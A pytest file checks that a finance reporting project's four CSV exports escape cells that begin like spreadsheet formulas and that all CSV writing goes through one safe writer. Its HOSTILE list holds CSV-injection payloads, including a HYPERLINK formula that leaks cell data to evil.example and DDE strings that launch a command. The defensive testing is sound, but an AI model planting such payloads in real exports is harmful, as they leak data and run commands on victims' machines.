"""No CSV Tide writes carries a live spreadsheet formula (OWASP's "CSV Injection").

A supplier, description, department, explanation or any other text that starts like a
formula is written with a ``'`` in front, in every one of the four CSVs; a cell that is a
plain number (a refund's ``-12.50``) stays a number. And no module writes CSV but through
``reports.csv_safe``, so a fifth file cannot forget.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from reports import journal, needs_outcomes, reconciliation, transparency
from reports.csv_safe import FORMULA_STARTS, safe_cell
from reports.movements import Movement
from reports.period import Period

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("api", "approvals", "cards", "ledger", "reports", "wallet")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
PERIOD = Period(first=date(2026, 10, 1), as_at=datetime(2026, 11, 5, tzinfo=UTC))


def _live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting (after spaces) like a formula, not a plain number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            start = cell.lstrip(" ")[:1]
            if start in FORMULA_STARTS and safe_cell(cell) != cell:
                found.append(cell)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-12.50", "12.50", "+3", "0", "-1", "42"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert safe_cell(number) == number
    assert safe_cell(-1250) == -1250


@pytest.mark.parametrize("text", ["School shoes", "Clarks", "<5", "", "Children's Services - Early Help", "'quoted"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def _movement(hostile: str) -> Movement:
    return Movement(
        operation_id="op-1", kind="refund", accounting_date=date(2026, 10, 20), amount=-1250, flagged=False,
        purchase_id=1, purchase_amount=1250, team_id=1, cost_centre=hostile, department=hostile,
        funding_source=hostile, category="CLOTH", supplier=hostile + " Ltd", payment_method="card",
        vat_evidence="no_vat_evidence", vat_rate=None, vat_amount=None, has_receipt=True, merchant_category=hostile,
    )  # fmt: skip


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_transparency_file_carries_no_formula_and_a_refund_stays_a_negative_number(hostile: str) -> None:
    out = io.StringIO()
    published = transparency.TransparencyFile(out)
    published.add(_movement(hostile))
    assert _live_formulas(out.getvalue()) == []
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert row[transparency.HEADER.index("Amount")] == "-12.50"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_gl_journal_carries_no_formula(hostile: str) -> None:
    out = io.StringIO()
    line = journal.JournalLine(
        cost_centre=hostile, account=hostile, expense_group=hostile, funding_source=hostile,
        vat_treatment=hostile, debit=0, credit=1250, description=hostile,
    )  # fmt: skip
    journal.write_csv([line], PERIOD, out)
    assert _live_formulas(out.getvalue()) == []
    assert "12.50" in list(csv.reader(io.StringIO(out.getvalue())))[1]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_reconciliation_carries_no_formula_and_its_amounts_stay_numbers(hostile: str) -> None:
    found = reconciliation.Finding(check=hostile, subject=hostile, detail=hostile, amount=-1250)
    report = reconciliation.Reconciliation(
        period=PERIOD, totals={hostile: -500}, findings=[found], explanations={found.key: hostile}
    )
    out = io.StringIO()
    reconciliation.write_csv(report, out)
    assert _live_formulas(out.getvalue()) == []
    amounts = [row[3] for row in csv.reader(io.StringIO(out.getvalue()))][1:]
    assert amounts == ["-5.00", "-12.50"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_needs_and_outcomes_file_carries_no_formula(hostile: str) -> None:
    table = needs_outcomes.Table(title=hostile, headers=("Group", hostile), rows=[(hostile, "-3")])
    out = io.StringIO()
    needs_outcomes.write_csv(needs_outcomes.NeedsOutcomes(period=PERIOD, tables=[table]), out)
    assert _live_formulas(out.getvalue()) == []
    assert list(csv.reader(io.StringIO(out.getvalue())))[-1][-1] == "-3"


def _csv_writers(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    ]


def test_no_module_writes_csv_but_through_the_safe_writer() -> None:
    found = [hit for package in PACKAGES for path in (ROOT / package).rglob("*.py") for hit in _csv_writers(path)]
    assert all(hit.startswith("reports/csv_safe.py:") for hit in found), found
    assert found, "the safe writer itself uses csv.writer: the walk must see it"
